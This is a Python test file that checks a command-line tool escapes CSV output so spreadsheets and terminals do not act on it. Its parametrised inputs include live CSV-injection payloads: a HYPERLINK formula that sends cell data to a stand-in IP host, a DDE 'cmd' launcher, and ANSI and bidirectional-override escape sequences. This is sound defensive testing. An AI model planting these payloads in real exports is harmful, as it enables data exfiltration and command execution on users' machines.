"""CSV that nothing obeys: no terminal, no spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from promovolvectl.cli.csv_rows import csv_rows
from promovolvectl.cli.tail import line


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ('=HYPERLINK("http://192.0.2.1/?"&A1)', '\'=HYPERLINK("http://192.0.2.1/?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "\\t=1"),
        ("[red]x[/]", "[red]x[/]"),
        ("a\x1b[31m\u202eb", "a\\x1b[31m\\u202eb"),
        ("two\nlines", "two\\nlines"),
        ('quoted "so", and on', 'quoted "so", and on'),
        *((number, number) for number in ("-5", "+5", "-0.25", "-1e-06", "-", "", "a=b", "entity-1")),
    ],
)
def test_names_are_text_and_numbers_stay(said: str, told: str) -> None:
    assert read(csv_rows([("name", "n"), (said, "1")])) == [["name", "n"], [told, "1"]]


def test_what_is_tailed_is_written_so() -> None:
    item = {"at": "2026-01-01T00:00:00Z", "object": "=1+1", "text": "a\x1b[31mb"}
    text = line("csv", "event", item, ("at", "object", "text"), "c", "", headed=False)
    assert read(text) == [["2026-01-01T00:00:00Z", "'=1+1", "a\\x1b[31mb"]]
